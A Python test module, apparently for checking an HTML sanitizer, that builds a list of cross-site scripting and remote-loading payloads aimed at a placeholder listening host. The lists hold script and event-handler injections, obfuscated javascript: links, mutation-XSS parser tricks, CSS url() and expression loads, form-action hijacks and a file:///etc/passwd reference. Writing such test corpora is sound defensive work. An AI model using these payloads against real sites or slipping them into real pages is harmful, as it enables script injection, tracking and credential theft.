"""
HTML that wants more than to be read: each asks for something that must not happen.

`{there}` stands for a host that listens; nothing shown may ever ask it for anything.
"""

PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
RUN = "fetch('{there}/script');document.title='ran'"

SCRIPTS = [
    "<script>" + RUN + "</script>",
    "<ScRiPt src='{there}/s.js'></sCrIpT>",
    "<script src={there}/s.js async></script\n>",
    "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
    '<img src=x onerror="' + RUN + '">',
    "<img src=`x` onerror=" + RUN + ">",
    "<img/src=x/onerror=" + RUN + ">",
    "<img \x00src=x \x00onerror=" + RUN + ">",
    '<body onload="' + RUN + '" onpageshow="' + RUN + '">hei',
    '<svg onload="' + RUN + '"><circle r=1 /></svg>',
    "<svg><script>" + RUN + "</script></svg>",
    '<svg><animate onbegin="' + RUN + '" attributeName=x dur=1s></svg>',
    "<svg><a xlink:href='javascript:" + RUN + "'><text y=20>x</text></a></svg>",
    "<svg><use href='{there}/u.svg#x'/><image href='{there}/i.png'/></svg>",
    "<svg><foreignObject><iframe src='{there}/f'></iframe></foreignObject></svg>",
    '<details open ontoggle="' + RUN + '"><summary>x</summary></details>',
    '<input autofocus onfocus="' + RUN + '"><select autofocus onfocus="' + RUN + '">',
    '<marquee onstart="' + RUN + '">x</marquee>',
    '<video src={there}/v onerror="' + RUN + '" poster={there}/p autoplay></video>',
    "<audio src={there}/a autoplay></audio><bgsound src={there}/b>",
    "<iframe srcdoc='&lt;script&gt;" + RUN + "&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>" + RUN + "</script>'></object><embed src={there}/e>",
    "<a href='javascript:" + RUN + "'>a</a><a href='jAvA\tscript:" + RUN + "'>b</a><a href='&#1;javascript:1'>c</a>",
    "<a href='&#x6a;avascript&colon;" + RUN + "'>a</a><a href='vbscript:x'>b</a><a href='data:text/html,x'>c</a>",
    '<p style="width:expression(' + RUN + ")\">x</p><p style='-moz-binding:url({there}/m.xml#x)'>x</p>",
    "<template><script>" + RUN + '</script></template><noscript><p title="</noscript><img src=x onerror=1>">',
]
MUTATIONS = [
    '<noscript><p title="</noscript><img src=x onerror=' + RUN + '>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=' + RUN + '&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=' + RUN + '>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=" + RUN + "></style>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=" + RUN + "></style></annotation-xml></math>",
    "<svg><title><style><!--</style><img src=x onerror=" + RUN + ">--></title></svg>",
    '<textarea><img title="</textarea><img src=x onerror=' + RUN + '>"></textarea>',
    '<title><a title="</title><img src=x onerror=' + RUN + '>"></a></title>',
    '<xmp><p title="</xmp><img src=x onerror=' + RUN + '>"></xmp>',
    '<style><img src="</style><img src=x onerror=' + RUN + '//">',
    "<select><style></select><img src=x onerror=" + RUN + "></style></select>",
    "<table><td><svg><desc><td></desc></svg><img src=x onerror=" + RUN + "></table>",
    "<!--><img src=x onerror=" + RUN + ">--><![CDATA[><img src=x onerror=" + RUN + ">]]>",
    "<?xml version='1.0'?><?php <img src=x onerror=" + RUN + ">?><!ENTITY x '<img src=x onerror=1>'>",
    "<plaintext><img src=x onerror=" + RUN + ">",
    "<p title='`><img src=x onerror=" + RUN + '>\'>`</p><p title="&lt;/p&gt;&lt;img src=x onerror=1&gt;">',
]
LOADS = [
    "<img src={there}/pixel.gif width=1 height=1>",
    "<img src={there}/picture.png><img src='//{host}/picture.png'><img src='/cases/1/'><img src='cases/1/'>",
    "<img srcset='{there}/1.png 1x, {there}/2.png 2x'><picture><source srcset={there}/3.png><img></picture>",
    "<img src=data:image/svg+xml,<svg/onload=1>><img lowsrc={there}/l.png dynsrc={there}/d.png>",
    "<table background={there}/t.png><td background={there}/d.png>x</table><body background={there}/b.png>",
    "<p style='background:url({there}/c.png)'>x</p><p style='background-image:u\\72l({there}/c.png)'>x</p>",
    "<p style='color:red;list-style:url({there}/l.png);cursor:url({there}/u.cur),auto;content:url({there}/x)'>x</p>",
    "<p style='background:image-set(\"{there}/i.png\" 1x)'>x</p><p style=\"border-image:url('{there}/b.png') 1\">x</p>",
    "<p style='background:/**/url(/**/{there}/c.png)'>x</p><p style='background:\nurl(\n{there}/c)'>x</p>",
    "<style>@import url({there}/i.css);@font-face{{font-family:x;src:url({there}/f.woff)}}*{{font-family:x}}</style>x",
    "<style>p{{background:url({there}/s.png)}}input[value^=a]{{background:url({there}/a)}}</style><p>x</p>",
    "<link rel=stylesheet href={there}/l.css><link rel=preload as=image href={there}/l.png>",
    "<link rel=prefetch href={there}/f><link rel=preconnect href={there}><link rel=dns-prefetch href=//{host}>",
    "<link rel=icon href={there}/i.ico><link rel=modulepreload href={there}/m.js>",
    "<meta http-equiv=refresh content='0;url={there}/r'><meta http-equiv=refresh content='0;url=/cases/'>",
    "<base href={there}/><img src=relative.png><a href=relative>x</a><base target=_top>",
    "<iframe src={there}/f></iframe><frameset><frame src={there}/g></frameset><embed src={there}/e>",
    "<form action={there}/form method=post><input name=p type=password><input type=image src={there}/i.png></form>",
    "<form action=/sign-out/ method=post><button autofocus formaction={there}/b>Paina</button></form>",
    "<a href={there}/a ping={there}/ping target=_top>x</a><area href={there}/x><map name=m><area href={there}/y></map>",
    "<blockquote cite={there}/q>x</blockquote><q cite={there}/q>x</q><del cite={there}/d>x</del>",
    "<input type=image src={there}/in.png><isindex action={there}/x><keygen><command icon={there}/c.png>",
    "<img src=cid:nothing@here><img src='mhtml:{there}/x'><img src='ftp://{host}/x'><img src='file:///etc/passwd'>",
    "<portal src={there}/p></portal><fencedframe src={there}/p></fencedframe><webview src={there}/w></webview>",
    '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{there}/s"]}}]}}</script>',
    "<html manifest={there}/m><head profile={there}/p><body><p itemscope itemtype={there}/t>x</body></html>",
    "<v:fill src='{there}/v.png' /><o:p>x</o:p><xml><w:x src={there}/w></xml><?import namespace='t' src='{there}/t'?>",
    "<span id=location name=cookie class=x data-x={there}/x slot=s is=y contenteditable autofocus tabindex=1>x</span>",
]


def payloads(there: str) -> list[str]:
    """Return every payload, asking `there` (such as `http://127.0.0.1:4711`)."""
    host = there.partition("//")[2]
    everything = [*SCRIPTS, *MUTATIONS, *LOADS]
    return [
        text.replace("{{", "{").replace("}}", "}").replace("{there}", there).replace("{host}", host)
        for text in everything
    ]
